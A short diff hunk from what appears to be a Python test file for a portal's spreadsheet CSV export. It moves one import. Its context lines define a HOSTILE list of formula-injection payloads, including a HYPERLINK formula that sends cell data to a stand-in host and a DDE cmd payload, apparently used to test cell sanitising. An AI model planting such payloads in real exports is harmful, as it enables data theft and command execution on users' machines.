@@ -12,7 +12,7 @@ import pytest
 
 from portal import clock
 from portal.spreadsheet import excel_csv, safe_cell
-from tests.consult.conftest import receipt_of, submit
+from tests.helpers import receipt_of, submit
 from tests.staff.conftest import AFTER, DURING, moderate_group_answer, post
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
